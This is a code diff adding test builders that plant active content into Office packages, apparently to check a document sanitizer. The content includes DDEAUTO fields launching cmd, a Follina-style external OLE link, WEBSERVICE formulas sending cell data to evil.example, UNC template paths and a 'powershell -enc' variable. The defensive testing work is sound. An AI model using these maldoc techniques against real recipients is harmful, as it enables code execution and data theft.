@@ -355,3 +355,266 @@ def libreoffice(work: Path, source: Path, target: str) -> Path:
     produced = work / (source.stem + "." + target.split(":")[0])
     assert produced.exists(), f"LibreOffice did not produce {produced.name}"
     return produced
+
+
+# ---------------------------------------------------------------- issue #8: attacks built from the spec
+# Each builder plants one active item into a benign package the way ECMA-376 Part 1 allows
+# it to be written (fields §17.16, formulas §18.17, relationships Part 2 §9.3, PowerPoint
+# actions §19.7.x "ppaction" / §20.1.2.2.23 hlinkClick) or the way a public write-up
+# delivered it (DDE in Word and Excel 2017, Follina's external oleObject 2022).
+W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+S_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+STRICT_S_NS = "http://purl.oclc.org/ooxml/spreadsheetml/main"
+STRICT_REL_NS = "http://purl.oclc.org/ooxml/officeDocument/relationships"
+MARK = "benign paragraph stays"
+CALC = 'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
+
+
+def _run(text: str) -> str:
+    return f'<w:r><w:t xml:space="preserve">{text}</w:t></w:r>'
+
+
+def _char(kind: str) -> str:
+    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'
+
+
+def _instr(text: str, tag: str = "w:instrText", extra: str = "") -> str:
+    return f'<w:r><{tag}{extra} xml:space="preserve">{text}</{tag}></w:r>'
+
+
+def _docx_with(body: str) -> bytes:
+    package = Package(docx_bytes())
+    package.body_append(f"<w:p>{_run(MARK)}</w:p>{body}")
+    return package.bytes()
+
+
+def dde_split_across_runs() -> bytes:
+    instruction = "".join(_instr(piece) for piece in (" DD", "E", "AUTO ", CALC))
+    return _docx_with(f"<w:p>{_char('begin')}{instruction}{_char('separate')}{_run('cached')}{_char('end')}</w:p>")
+
+
+def two_fields_second_dde() -> bytes:
+    page = f"{_char('begin')}{_instr(' PAGE ')}{_char('separate')}{_run('1')}{_char('end')}"
+    dde = f"{_char('begin')}{_instr(' DDEAUTO ' + CALC)}{_char('separate')}{_run('dde result')}{_char('end')}"
+    return _docx_with(f"<w:p>{_run('page ')}{page}{_run(' then ')}{dde}</w:p>")
+
+
+def nested_field_builds_dde() -> bytes:
+    """{ { QUOTE "DDEAUTO" } cmd … }: the keyword comes from a nested field's result."""
+    inner = f"{_char('begin')}{_instr(' QUOTE &quot;DDEAUTO&quot; ')}{_char('separate')}{_run('DDEAUTO')}{_char('end')}"
+    return _docx_with(
+        f"<w:p>{_char('begin')}{inner}{_instr(' ' + CALC)}{_char('separate')}{_run('outer result')}"
+        f"{_char('end')}</w:p>"
+    )
+
+
+def field_across_paragraphs() -> bytes:
+    return _docx_with(
+        f"<w:p>{_char('begin')}</w:p><w:p>{_instr(' DDEAUTO ')}</w:p><w:p>{_instr(CALC)}{_char('separate')}"
+        f"{_run('across result')}{_char('end')}</w:p>"
+    )
+
+
+def includepicture_unc_simple() -> bytes:
+    return _docx_with(
+        '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;\\\\\\\\evil.example\\\\share\\\\a.png&quot; \\d ">'
+        f"{_run('picture result')}</w:fldSimple></w:p>"
+    )
+
+
+def hyperlink_field_to_file() -> bytes:
+    field = f"{_char('begin')}{_instr(' HYPERLINK &quot;file:///C:/Windows/System32/calc.exe&quot; ')}"
+    return _docx_with(f"<w:p>{field}{_char('separate')}{_run('click me')}{_char('end')}</w:p>")
+
+
+def prefix_bound_elsewhere() -> bytes:
+    """instrText under a prefix that is not "w" but is bound to the WordprocessingML namespace."""
+    instruction = _instr(" DDEAUTO " + CALC, "x:instrText", f' xmlns:x="{W_NS}"')
+    return _docx_with(f"<w:p>{_char('begin')}{instruction}{_char('separate')}{_run('cached')}{_char('end')}</w:p>")
+
+
+def field_with_character_references() -> bytes:
+    return _docx_with(
+        f"<w:p>{_char('begin')}{_instr(' &#68;&#x44;E ' + CALC)}{_char('separate')}{_run('cached')}"
+        f"{_char('end')}</w:p>"
+    )
+
+
+def attached_template_declared_as_hyperlink() -> bytes:
+    package = Package(_docx_with(""))
+    package.add_rel(
+        "word/_rels/settings.xml.rels", "rIdTpl", f"{REL_NS}/hyperlink", "https://evil.example/t.dotm", True
+    )
+    settings = package.text("word/settings.xml")
+    package.put(
+        "word/settings.xml",
+        re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdTpl"/>', settings, count=1),
+    )
+    return package.bytes()
+
+
+def _picture_package(name: str, data: bytes, content_type: str) -> bytes:
+    package = Package(_docx_with(""))
+    package.put(f"word/media/{name}", data)
+    package.add_rel("word/_rels/document.xml.rels", "rIdPlanted", f"{REL_NS}/image", f"media/{name}")
+    package.content_type(f"/word/media/{name}", content_type)
+    document = package.text("word/document.xml")
+    package.put("word/document.xml", re.sub(r'r:embed="[^"]+"', 'r:embed="rIdPlanted"', document, count=1))
+    return package.bytes()
+
+
+def svg_picture() -> bytes:
+    svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
+    return _picture_package("evil.svg", svg.encode(), "image/svg+xml")
+
+
+def emf_picture() -> bytes:
+    emf = b"\x01\x00\x00\x00" + b"\x00" * 36 + b" EMF" + b"\x00" * 64
+    return _picture_package("image9.emf", emf, "image/x-emf")
+
+
+def png_holding_html() -> bytes:
+    return _picture_package("evil.png", b"<html><script>alert(1)</script></html>", "image/png")
+
+
+def follina_external_ole() -> bytes:
+    package = Package(_docx_with(""))
+    package.add_rel(
+        "word/_rels/document.xml.rels", "rIdFol", f"{REL_NS}/oleObject", "mhtml:http://evil.example/x.html!x", True
+    )
+    package.body_append(
+        '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" '
+        'ProgID="htmlfile" ShapeID="s1" DrawAspect="Content" r:id="rIdFol" UpdateMode="OnCall"/>'
+        "</w:object></w:r></w:p>"
+    )
+    return package.bytes()
+
+
+def alternate_content_fallback_ole() -> bytes:
+    """The Choice is harmless, the Fallback carries an OLE object: both branches are judged."""
+    package = Package(_docx_with(""))
+    package.put("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 60)
+    package.add_rel("word/_rels/document.xml.rels", "rIdOle", f"{REL_NS}/oleObject", "embeddings/oleObject1.bin")
+    package.content_type("/word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject")
+    package.body_append(
+        '<w:p><w:r><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
+        "<mc:Choice Requires=\"w14\"><w:t>choice text</w:t></mc:Choice><mc:Fallback><w:object>"
+        '<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Package" '
+        'r:id="rIdOle"/></w:object></mc:Fallback></mc:AlternateContent></w:r></w:p>'
+    )
+    return package.bytes()
+
+
+def settings_with_mail_merge_and_variables() -> bytes:
+    package = Package(_docx_with(""))
+    package.add_rel(
+        "word/_rels/settings.xml.rels",
+        "rIdSrc",
+        f"{REL_NS}/mailMergeSource",
+        "file:///\\\\evil.example\\share\\data.xlsx",
+        True,
+    )
+    settings = package.text("word/settings.xml")
+    planted = (
+        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/>'
+        '<w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\evil\\share\\data.xlsx"/>'
+        '<w:query w:val="SELECT * FROM `Sheet1$`"/><w:dataSource r:id="rIdSrc"/></w:mailMerge>'
+        '<w:docVars><w:docVar w:name="payload" w:val="powershell -enc AAAA"/></w:docVars>'
+    )
+    package.put(
+        "word/settings.xml", re.sub(r"(<w:settings[^>]*>)", lambda m: m.group(1) + planted, settings, count=1)
+    )
+    return package.bytes()
+
+
+def document_with_dtd() -> bytes:
+    package = Package(docx_bytes())
+    document = package.text("word/document.xml")
+    package.put(
+        "word/document.xml",
+        document.replace("?>", '?><!DOCTYPE w:document [<!ENTITY x "DDEAUTO">]>', 1),
+    )
+    return package.bytes()
+
+
+# Spreadsheets
+def _xlsx_with_formula(formula_xml: str, workbook_extra: str = "") -> bytes:
+    package = Package(xlsx_bytes())
+    sheet = package.text("xl/worksheets/sheet1.xml")
+    package.put(
+        "xl/worksheets/sheet1.xml",
+        sheet.replace("</sheetData>", f'<row r="9">{formula_xml}</row></sheetData>'),
+    )
+    if workbook_extra:
+        package.put("xl/workbook.xml", package.text("xl/workbook.xml").replace("<definedNames/>", workbook_extra))
+    return package.bytes()
+
+
+def formula_dde_by_character_reference() -> bytes:
+    return _xlsx_with_formula("<c r=\"A9\"><f>cmd&#124;' /C calc'!A0</f><v>7</v></c>")
+
+
+def formula_external_workbook() -> bytes:
+    return _xlsx_with_formula(
+        '<c r="A9"><f>[1]Sheet1!A1</f><v>11</v></c>'
+        "<c r=\"B9\"><f>'C:\\Users\\x\\[book.xlsx]Sheet1'!A1*2</f><v>22</v></c>"
+    )
+
+
+def formula_webservice() -> bytes:
+    return _xlsx_with_formula(
+        '<c r="A9" t="str"><f>WEBSERVICE("http://evil.example/?"&amp;B2)</f><v>ws</v></c>'
+        '<c r="B9" t="str"><f>_xlfn.WEBSERVICE("http://evil.example/")</f><v>ws2</v></c>'
+    )
+
+
+def formula_shared_dde_and_names() -> bytes:
+    """A shared-formula master with DDE and its dependants; a defined name with a DDE link;
+    a conditional format whose formula calls an add-in."""
+    cells = (
+        "<c r=\"A9\"><f t=\"shared\" ref=\"A9:C9\" si=\"0\">cmd|' /C calc'!A0</f><v>1</v></c>"
+        '<c r="B9"><f t="shared" si="0"/><v>2</v></c><c r="C9"><f t="shared" si="0"/><v>3</v></c>'
+    )
+    names = "<definedNames><definedName name=\"pwn\">cmd|'/c calc'!A0</definedName></definedNames>"
+    data = _xlsx_with_formula(cells, names)
+    package = Package(data)
+    sheet = package.text("xl/worksheets/sheet1.xml")
+    package.put(
+        "xl/worksheets/sheet1.xml",
+        sheet.replace(
+            "<pageMargins",
+            '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">'
+            "<formula>_xll.EvilAddin(A1)</formula></cfRule></conditionalFormatting><pageMargins",
+        ),
+    )
+    return package.bytes()
+
+
+def strict_sheet_with_dde() -> bytes:
+    """The whole workbook in the strict OOXML namespaces, with a DDE formula."""
+    package = Package(_xlsx_with_formula("<c r=\"A9\"><f>cmd|' /C calc'!A0</f><v>5</v></c>"))
+    for name in list(package.parts):
+        if name.endswith((".xml", ".rels")) and not name.startswith("docProps/") and name != "[Content_Types].xml":
+            text = package.text(name)
+            text = text.replace(S_NS, STRICT_S_NS).replace(REL_NS, STRICT_REL_NS)
+            package.put(name, text)
+    return package.bytes()
+
+
+# Presentations
+def pptx_action(action: str, target: str | None) -> bytes:
+    package = Package(pptx_bytes())
+    rel = ""
+    if target is not None:
+        package.add_rel("ppt/slides/_rels/slide1.xml.rels", "rIdAct", f"{REL_NS}/hyperlink", target, True)
+        rel = 'r:id="rIdAct" '
+    slide = package.text("ppt/slides/slide1.xml")
+    package.put(
+        "ppt/slides/slide1.xml",
+        slide.replace(
+            '<p:cNvPr id="2" name="Title 1"/>',
+            f'<p:cNvPr id="2" name="Title 1"><a:hlinkClick {rel}action="{action}"/></p:cNvPr>',
+            1,
+        ),
+    )
+    return package.bytes()
